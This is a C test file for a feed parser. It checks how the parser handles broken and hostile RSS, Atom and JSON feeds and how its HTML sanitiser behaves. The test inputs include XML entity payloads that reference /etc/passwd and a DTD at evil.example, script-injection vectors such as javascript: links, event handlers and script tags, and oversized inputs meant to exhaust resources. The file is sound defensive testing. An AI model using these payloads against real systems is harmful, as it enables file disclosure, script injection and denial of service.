/* test-hostile.c: broken and hostile feeds give what they hold, and no more
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "feed-fixture.h"

#include "hs-html-write.h"

static void
test_broken_xml_is_recovered_and_flagged (void)
{
  g_auto (Read) read = read_feed (
    "\n<rss version='2.0'><channel><title>Fish & Chips &amp; more</title>"
    "<item><title>1 < 2 and <3</title><description>a<br>b <b>c</description><link>https://a.example/?x=1&y=2"
    "</link></item><item><title>Second</titel><author>Ida <ida@lantern.example></author></item>"
    "<item><title><![CDATA[Third]]></title><guid>open");

  g_assert_true (read.feed->recovered);
  g_assert_cmpuint (read.feed->errors->len, >, 0);
  assert_plain (read.feed->title, "Fish & Chips & more");
  g_assert_cmpuint (read.entries->len, ==, 3);
  assert_plain (entry_at (&read, 0)->title, "1 < 2 and <3");
  assert_plain (entry_at (&read, 0)->summary, "a b c");
  g_assert_cmpstr (entry_at (&read, 0)->url, ==, "https://a.example/?x=1&y=2");
  assert_plain (entry_at (&read, 2)->title, "Third");
  g_assert_cmpstr (entry_at (&read, 2)->id, ==, "open");
}

static void
test_a_well_formed_feed_is_not_flagged (void)
{
  g_auto (Read) read = read_feed ("<?xml version='1.0'?><!-- a --><?pi b?><rss version='2.0'><channel><title>A "
                                  "&eacute;&nbsp;&#233;</title><odd:thing xmlns:odd='urn:odd'/></channel></rss>\n");

  g_assert_false (read.feed->recovered);
  g_assert_cmpuint (read.feed->errors->len, ==, 0);
  g_assert_cmpstr (read.feed->title->value, ==, "A é\302\240é");
}

static void
test_entities_of_a_document_type_are_never_expanded (void)
{
  g_auto (Read) read = read_feed (
    "<!DOCTYPE rss [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;&lol;'><!ENTITY file SYSTEM 'file:///etc/passwd'>"
    "<!ENTITY % remote SYSTEM 'http://evil.example/x.dtd'> %remote; ]>"
    "<rss version='2.0'><channel><title>&lol2;|&file;</title></channel></rss>");

  assert_plain (read.feed->title, "&lol2;|&file;");
}

static void
test_namespaces_go_by_address_not_by_prefix (void)
{
  g_auto (Read) read = read_feed (
    "<rss version='2.0' xmlns:q='http://purl.org/dc/elements/1.1/' xmlns:dc='urn:not-dublin-core'><channel><item>"
    "<dc:creator>Nobody</dc:creator><q:creator>Ida</q:creator></item>"
    "<item><dcterms:created>2026-03-09</dcterms:created></item></channel></rss>");
  HsFeedEntry *entry = entry_at (&read, 0);

  g_assert_cmpuint (entry->authors->len, ==, 1);
  g_assert_cmpstr (((HsFeedPerson *) g_ptr_array_index (entry->authors, 0))->name, ==, "Ida");
  g_assert_cmpstr (entry_at (&read, 1)->published, ==, "2026-03-09"); /* a prefix nobody declared */
}

static void
test_what_stands_in_a_box_stays_there (void)
{
  g_auto (Read) read = read_feed (
    "<rss version='2.0'><channel><image><title>Logo</title><link>https://logo.example/</link></image>"
    "<textInput><title>Search</title><description>d</description><link>https://search.example/</link></textInput>"
    "<title>Real</title><item><image><title>no</title><url>/i.png</url></image><title>Entry</title></item>"
    "</channel></rss>");

  assert_plain (read.feed->title, "Real");
  g_assert_null (read.feed->home_url);
  g_assert_null (read.feed->description);
  assert_plain (entry_at (&read, 0)->title, "Entry");
  g_assert_null (entry_at (&read, 0)->url);
  g_assert_cmpstr (entry_at (&read, 0)->image, ==, "https://lantern.example/i.png");
}

static const struct
{
  const char *bytes;
  gsize length;
  const char *content_type;
  const char *encoding;
  const char *title;
  gboolean guessed;
} encodings[] = {
#define BYTES(s) s, sizeof (s) - 1
  { BYTES ("<?xml version='1.0' encoding='iso-8859-1'?><rss><channel><title>caf\xe9 \x93x\x94</title></channel></rss>"),
    NULL, "iso-8859-1", "café “x”", FALSE },
  /* RFC 7303: the header before the declaration */
  { BYTES ("<?xml version='1.0' encoding='iso-8859-1'?><rss><channel><title>\xc1</title></channel></rss>"),
    "application/xml; charset=koi8-r", "koi8-r", "а", FALSE },
  { BYTES ("\xef\xbb\xbf<rss><channel><title>caf\xc3\xa9</title></channel></rss>"), "text/xml; charset=iso-8859-1",
    "utf-8", "café", FALSE },
  { BYTES ("\xff\xfe<\0r\0s\0s\0>\0<\0c\0h\0a\0n\0n\0e\0l\0>\0<\0t\0i\0t\0l\0e\0>\0h\0i\0<\0/\0t\0i\0t\0l\0e\0>\0"),
    NULL, "utf-16le", "hi", FALSE },
  { BYTES ("<rss><channel><title>caf\xe9 and a Stra\xdf" "e</title></channel></rss>"), NULL, NULL, "café and a Straße",
    TRUE },
  /* mostly UTF-8: the one bad byte is a bad byte */
  { BYTES ("<rss><channel><title>\xc3\xa9\xc3\xa8\xc3\xa0\xc3\xbc\xc3\xb6 \xe9</title></channel></rss>"), NULL, "utf-8",
    "éèàüö \xef\xbf\xbd", FALSE },
  { BYTES ("<?xml version='1.0' encoding='klingon'?><rss><channel><title>caf\xc3\xa9</title></channel></rss>"), NULL,
    "utf-8", "café", FALSE },
  /* all its bytes are ASCII, and yet: ESC $ B F | ESC ( B is 日 */
  { BYTES ("<?xml version='1.0' encoding='ISO-2022-JP'?><rss><channel><title>\x1b$BF|\x1b(B</title></channel></rss>"),
    NULL, "iso-2022-jp", "日", FALSE },
  { BYTES ("<?xml version='1.0' encoding='iso8859_7'?><rss><channel><title>\xe1</title></channel></rss>"), NULL,
    "iso8859_7", "α", FALSE },
  { BYTES ("<rss><channel><title>ab\0\x01" "c</title></channel></rss>"), NULL, "utf-8", "abc", FALSE },
#undef BYTES
};

static void
test_bytes_are_read_in_their_encoding (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (encodings); i++)
    {
      g_auto (Read) read = read_bytes (encodings[i].bytes, encodings[i].length, encodings[i].content_type, NULL);

      assert_plain (read.feed->title, encodings[i].title);
      if (encodings[i].encoding != NULL)
        g_assert_cmpstr (read.feed->encoding, ==, encodings[i].encoding);
      g_assert_cmpint (read.feed->encoding_guessed, ==, encodings[i].guessed);
    }
}

static void
test_what_is_no_feed_is_refused (void)
{
  static const struct
  {
    const char *text;
    HsError code;
  } cases[] = {
    { "", HS_ERROR_EMPTY }, { "plain words", HS_ERROR_UNSUPPORTED }, { "<html><body/></html>", HS_ERROR_UNSUPPORTED },
    { "{\"a\":1}", HS_ERROR_UNSUPPORTED }, { "[1]", HS_ERROR_UNSUPPORTED }, { "{", HS_ERROR_UNSUPPORTED },
    { "<opml><body/></opml>", HS_ERROR_UNSUPPORTED },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (GBytes) bytes = g_bytes_new (cases[i].text, strlen (cases[i].text));
      g_autoptr (GError) error = NULL;
      g_autoptr (HsFeed) feed = hs_feed_parse (bytes, NULL, NULL, NULL, NULL, &error);

      g_assert_null (feed);
      g_assert_error (error, HS_ERROR, cases[i].code);
    }
}

/* The test's own time limit would show what takes too long. */
static void
test_nothing_takes_long_or_deep (void)
{
  static const struct
  {
    const char *before, *repeated, *after;
    guint times;
  } cases[] = {
    { "<rss><channel>", "<a>", "", 300000 },
    { "<rss><channel><title>", "</b>", "</title></channel></rss>", 300000 },
    { "<rss><channel><title>", "&", "</title></channel></rss>", 300000 },
    { "<rss><channel><title ", "a='1' b ", "></title></channel></rss>", 200000 },
    { "<rss><channel><title><![CDATA[", "]] ", "]]></title></channel></rss>", 2000000 },
    { "<rss><channel><!-- ", "- ", "", 1000000 },
    { "<!DOCTYPE x [", "<!ENTITY a 'b'>", "]><rss><channel/></rss>", 100000 },
    { "<rss><channel>", "<category>x</category>", "", 100000 },
    { "<rss><channel><item>", "<enclosure url='a'/><author>x</author>", "</item></channel></rss>", 50000 },
    { "{\"version\":\"https://jsonfeed.org/version/1\",\"x\":", "[", "", 1000000 },
    { "{\"version\":\"https://jsonfeed.org/version/1\",\"x\":/*\"*/", "[", "", 1000000 },
    { "<rss><channel><item><description><![CDATA[", "<div>", "]]></description></item></channel></rss>", 100000 },
    { "<rss><channel><title>", "&lt;a ", "</title></channel></rss>", 500000 },
    { "<rss><channel><title>", "&amp;a", "</title></channel></rss>", 500000 },
    { "<rss><channel><item><description>", "&lt;img ", "</description></item></channel></rss>", 400000 },
    { "<rss><channel>", "<!--", "", 1000000 },
    { "<rss><channel>", "<?a", "", 1000000 },
    { "", "<!x [>", "<rss/>", 300000 },
    { "<rss><channel>", "<item xml:base='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/'>",
      "", 1000 },
    { "<a xmlns='http://www.w3.org/2005/Atom'>", "<b xmlns:x='urn:x'>", "", 100000 },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (GString) text = g_string_new (cases[i].before);
      g_autoptr (GBytes) bytes = NULL;
      g_autoptr (HsFeed) feed = NULL;

      for (guint k = 0; k < cases[i].times; k++)
        g_string_append (text, cases[i].repeated);
      g_string_append (text, cases[i].after);
      bytes = g_bytes_new (text->str, text->len);
      feed = hs_feed_parse (bytes, NULL, NULL, NULL, NULL, NULL);
      if (feed != NULL)
        g_assert_cmpuint (feed->categories->len, <=, 1000);
    }
}

static void
test_only_what_cannot_harm_is_written (void)
{
  static const struct
  {
    const char *html;
    const char *clean;
  } cases[] = {
    { "<p onclick=x>a <em>b</em><script>c</script></p>", "<p>a <em>b</em></p>" },
    { "<a href='/x?a=1&amp;b=2' onmouseover=y>l</a>", "<a href=\"https://b.example/x?a=1&amp;b=2\">l</a>" },
    { "<a href='java\nscript:x'>l</a>", "<a>l</a>" },
    { "<a href='&#106;avascript:x'>l</a>", "<a>l</a>" },
    { "<img src='data:image/svg+xml,x'>", "" },
    { "<img src=a.png alt='\"q\"'>", "<img src=\"https://b.example/d/a.png\" alt=\"&quot;q&quot;\" />" },
    { "<img src=a.png width=1 height=1>", "" },
    { "a &lt;script&gt; b", "a &lt;script&gt; b" },
    { "<ol><li>1</ol><ul><li>2</ul>", "<ol><li>1</li></ol><ul><li>2</li></ul>" },
    { "1 < 2 &amp; 3", "1 &lt; 2 &amp; 3" },
    { "<form action=x><input name=y>t</form>", "<div>t</div>" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *clean = hs_html_clean (cases[i].html, strlen (cases[i].html), "https://b.example/d/e");
      g_autofree char *bare = g_str_has_prefix (clean, "<p><a") || g_str_has_prefix (clean, "<p><img")
                                ? g_strndup (clean + 3, strlen (clean) - 7)
                                : g_strdup (clean);

      g_assert_cmpstr (bare, ==, cases[i].clean);
    }
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/hostile/broken-xml-is-recovered-and-flagged", test_broken_xml_is_recovered_and_flagged);
  g_test_add_func ("/hostile/a-well-formed-feed-is-not-flagged", test_a_well_formed_feed_is_not_flagged);
  g_test_add_func ("/hostile/entities-of-a-document-type-are-never-expanded",
                   test_entities_of_a_document_type_are_never_expanded);
  g_test_add_func ("/hostile/namespaces-go-by-address-not-by-prefix", test_namespaces_go_by_address_not_by_prefix);
  g_test_add_func ("/hostile/what-stands-in-a-box-stays-there", test_what_stands_in_a_box_stays_there);
  g_test_add_func ("/hostile/bytes-are-read-in-their-encoding", test_bytes_are_read_in_their_encoding);
  g_test_add_func ("/hostile/what-is-no-feed-is-refused", test_what_is_no_feed_is_refused);
  g_test_add_func ("/hostile/nothing-takes-long-or-deep", test_nothing_takes_long_or_deep);
  g_test_add_func ("/hostile/only-what-cannot-harm-is-written", test_only_what_cannot_harm_is_written);
  return g_test_run ();
}
